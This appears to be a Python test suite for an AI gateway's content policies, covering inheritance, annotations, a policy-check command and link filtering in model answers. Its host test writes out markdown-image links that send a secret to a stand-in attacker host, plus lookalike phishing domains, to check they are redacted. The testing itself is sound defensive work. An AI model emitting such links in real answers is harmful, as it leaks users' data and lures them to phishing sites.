"""Policies as documents: bases, hosts, what annotations list, and what `policies check` finds."""

import json

import pytest

from gateway import policy
from mock_upstream import fixture

BODY = {"messages": [{"role": "user", "content": "hi"}]}
SECRET = "QWxpY2UgYW5kIEJvYiBrZWVwIHRoZSBrZXkgdW5kZXIgdGhlIG1hdA"


def document(name, base=None, filters=(), lists=(), **extensions):
    made = policy(name, blocklists=lists, **extensions)
    made["properties"]["contentFilters"] = list(filters)
    if base:
        made["properties"]["basePolicyName"] = base
    return made


@pytest.fixture
def with_policies(make_gateway):
    """A gateway whose deployments are named for their policies, in lower case."""

    def make(*documents, change=None):
        def edit(tree):
            for one in documents:
                tree["deployments"][one["name"].lower()] = {"upstream": "aoai", "model": "gpt-4o", "policy": one["name"]}
            if change:
                change(tree)

        gateway = make_gateway(lambda tree: tree, start=False)
        for one in documents:
            (gateway.policies / f"{one['name']}.json").write_text(json.dumps(one))
        gateway.tree = gateway.changed(edit)
        gateway.write(gateway.tree)
        gateway.start()
        return gateway

    return make


def says(mock, text):
    body = fixture("chat/basic")["response"]["body"]
    body["choices"][0]["message"]["content"] = text
    for choice in body["choices"]:
        choice.pop("content_filter_results", None)
    body.pop("prompt_filter_results", None)
    mock.script("chat/completions", {"json": body}, repeat=True)


# Hosts

LINKS = [{"detect": "output", "source": "Completion", "minimumConfidence": 0.5, "action": "redact"}]


def test_allowed_hosts_are_free_and_lookalikes_of_protected_ones_are_cut(with_policies, mock):
    gateway = with_policies(
        document("Linked", rules=LINKS),
        document("Hosted", rules=LINKS, hosts={"allowed": ["intranet.example", "Good.Example"], "protected": ["contoso.com"]}),
    )

    def shown(deployment, text):
        mock.clear()
        says(mock, text)
        return gateway.chat(deployment, BODY, key=gateway.user).json()["choices"][0]["message"]["content"]

    for link in (f"![x](https://good.example/?d={SECRET})", f"![x](https://cdn.good.example/?d={SECRET})", f"[x](https://intranet.example/find?q={SECRET})"):
        assert SECRET not in shown("linked", link), "without the policy's word it is an exfiltration"
        assert shown("hosted", link) == link
    for link in (f"![x](https://evil.example/?d={SECRET})", f"![x](https://good.example.evil.example/?d={SECRET})", f"![x](https://notgood.example/?d={SECRET})"):
        assert SECRET not in shown("hosted", link)
    for host in ("c0ntoso.com", "contoso-login.com", "contoso.com.evil.example", "c\u043entoso.com"):
        text = f"Sign in at https://{host}/start please."
        assert shown("linked", text) == text or "\u043e" in host, host
        assert host not in shown("hosted", text), host
    own = "Sign in at https://login.contoso.com/start please."
    assert shown("hosted", own) == own
    assert "paypa1.com" not in shown("hosted", "Sign in at https://paypa1.com/start please."), "the well-known ones stay protected"


# Bases


def test_a_policy_inherits_and_its_own_words_count(with_policies, mock):
    card = "my card is 4111 1111 1111 1111 thanks"
    gateway = with_policies(
        document("Base", rules=[{"detect": "sensitive", "types": ["CreditCardNumber"], "action": "mask"}], uninspectable="record"),
        document("Child", base="Base", rules=[{"detect": "sensitive", "types": ["Email"], "action": "block"}]),
        document("Grandchild", base="Child", annotations=False),
    )
    for name in ("base", "child", "grandchild"):
        assert gateway.chat(name, {"messages": [{"role": "user", "content": card}]}, key=gateway.user).status == 200
        assert b"4111" not in mock.last().body
    mail = {"messages": [{"role": "user", "content": "write to jane.roe@example.com"}]}
    assert [gateway.chat(name, mail, key=gateway.user).status for name in ("base", "child", "grandchild")] == [200, 400, 400]
    answer = gateway.chat("grandchild", BODY, key=gateway.user)
    assert answer.json() == fixture("chat/basic")["response"]["body"], "nothing is annotated"
    record = gateway.wait_for_record(lambda r: r["id"] == answer.header("apim-request-id") and r["type"] == "exchange.outcome")
    assert record["policy"] == "Grandchild" and record["details"]["policyBase"] == "Child:1,Base:1"


def test_azures_defaults_are_left_to_an_azure_upstream_and_refused_elsewhere(with_policies, mock):
    """Learned guards are off here: nobody but the upstream runs these filters."""
    gateway = with_policies(
        document("Azures", base="Microsoft.DefaultV2", uninspectable="record"),
        change=lambda tree: tree["deployments"].update(elsewhere={"upstream": "other", "model": "llama", "policy": "Azures"}),
    )
    assert gateway.chat("azures", BODY, key=gateway.user).status == 200
    refused = gateway.chat("elsewhere", BODY, key=gateway.user)
    assert refused.status == 503 and refused.error["code"] == "content_filter_error"
    assert len(mock.requests) == 1


def test_policies_that_make_no_sense_together_stop_the_start_with_a_reason(with_policies, make_gateway):
    gateway = make_gateway(start=False)
    loop = [document("A", base="B"), document("B", base="A")]
    for one in loop:
        (gateway.policies / f"{one['name']}.json").write_text(json.dumps(one))
    done = gateway.command("config", "check", gateway.config)
    assert done.returncode != 0 and "based on itself" in done.stdout + done.stderr
    (gateway.policies / "B.json").write_text(json.dumps(document("B", base="Missing")))
    done = gateway.command("config", "check", gateway.config)
    assert done.returncode != 0 and "Missing" in done.stdout + done.stderr


# Annotations

KEYS = {
    "sensitive": "personally_identifiable_information", "secret": "secrets", "invisible": "invisible_text", "output": "unsafe_output",
}  # fmt: skip


def listed(answer):
    prompt = answer.json().get("prompt_filter_results", [{}])[0].get("content_filter_results", {})
    return set(prompt), set(answer.json()["choices"][0].get("content_filter_results", {}))


def test_annotations_list_what_the_policy_looks_for_and_nothing_else(with_policies, mock):
    rules = {group: {"detect": group, "action": "annotate"} for group in KEYS}
    made = {name: document(f"Sees{name}", rules=[rule]) for name, rule in rules.items()}
    made["prompts"] = document("SeesPrompts", rules=[{"detect": "secret", "source": "Prompt", "action": "annotate"}])
    made["answers"] = document("SeesAnswers", rules=[{"detect": "sensitive", "origins": ["completion"], "action": "annotate"}])
    made["switched"] = document("SeesSwitched", rules=[rules["secret"]], guards={"secrets": {"enabled": False}})
    made["allowing"] = document("SeesAllowing", rules=[{"detect": "secret", "action": "allow"}])
    made["listed"] = document("SeesListed", lists=[("e2e-markers", "Completion", True)])
    gateway = with_policies(*made.values())
    says(mock, "hello")

    def of(name):
        return listed(gateway.chat(made[name]["name"].lower(), BODY, key=gateway.user))

    for group, key in KEYS.items():
        prompt, completion = of(group)
        assert completion == {key}
        assert prompt == ({key} if group != "output" else set()), "links are looked for in answers"
    assert of("prompts") == ({"secrets"}, set())
    assert of("answers") == (set(), {"personally_identifiable_information"})
    assert of("switched") == of("allowing") == (set(), set())


def test_an_azure_upstreams_own_annotations_stay_when_nobody_here_looks(with_policies, mock):
    gateway = with_policies(document("Azures", base="Microsoft.Default"))
    body = fixture("chat/basic")["response"]["body"]
    body["choices"][0]["content_filter_results"] = {"hate": {"filtered": False, "severity": "low"}}
    mock.script("chat/completions", {"json": body})
    answer = gateway.chat("azures", BODY, key=gateway.user)
    assert answer.json()["choices"][0]["content_filter_results"] == {"hate": {"filtered": False, "severity": "low"}}


# The command line


def check(gateway, tmp_path, made, *options):
    file = tmp_path / "candidate.json"
    file.write_text(json.dumps(made))
    done = gateway.command("policies", "check", file, *options)
    return done.returncode, done.stdout + done.stderr


def test_check_names_words_that_nothing_knows(make_gateway, tmp_path):
    gateway = make_gateway()
    here = ("--config", gateway.config)
    assert check(gateway, tmp_path, document("Good", lists=[("e2e-markers", "Prompt", True)]), *here)[0] == 0
    for made, words in [
        (document("P", rules=[{"detect": "sensitive", "types": ["CreditCard"], "action": "mask"}]), "did you mean 'CreditCardNumber'"),
        (document("P", rules=[{"detect": "harm", "types": ["rudeness"], "action": "block"}]), "'rudeness' is no type of 'harm'"),
        (document("P", rules=[{"detect": "blocklist", "action": "block"}]), "customBlocklists"),
        (document("P", guards={"secret": {"enabled": False}}), "did you mean 'secrets'"),
        (document("P", lists=[("no-such-list", "Prompt", True)]), "the blocklist 'no-such-list' does not exist"),
        (document("P", base="Nowhere"), "there is no policy 'Nowhere'"),
        (document("P", hosts={"allowed": ["https://x.example/"]}), "properties.sallyport.hosts.allowed[0]"),
    ]:
        status, said = check(gateway, tmp_path, made, *here)
        assert status != 0 and words in said, said
    status, said = check(gateway, tmp_path, document("P", base="Default", lists=[("no-such-list", "Prompt", True)]))
    assert status == 0 and "with --config" in said, "without data there is nothing to compare lists with"


def test_put_refuses_unknown_words_and_delete_keeps_what_others_are_based_on(make_gateway, tmp_path):
    gateway = make_gateway()
    here = ("--config", gateway.config)

    def put(made):
        file = tmp_path / f"{made['name']}.json"
        file.write_text(json.dumps(made))
        done = gateway.command("policies", "put", file, *here)
        return done.returncode, done.stdout + done.stderr

    assert put(document("Bad", rules=[{"detect": "secret", "types": ["Passwort"], "action": "mask"}]))[0] != 0
    assert put(document("Parent", rules=[{"detect": "secret", "action": "mask"}]))[0] == 0
    assert put(document("Child", base="Parent"))[0] == 0
    assert put(document("Later", lists=[("made-later", "Prompt", True)])) [0] == 0
    refused = gateway.command("policies", "delete", "Parent", *here)
    assert refused.returncode != 0 and "'Parent' is needed" in refused.stdout + refused.stderr
    assert put(document("Parent", base="Child"))[0] != 0, "a circle"
    assert gateway.command("policies", "delete", "Child", *here).returncode == 0
    assert gateway.command("policies", "delete", "Parent", *here).returncode == 0
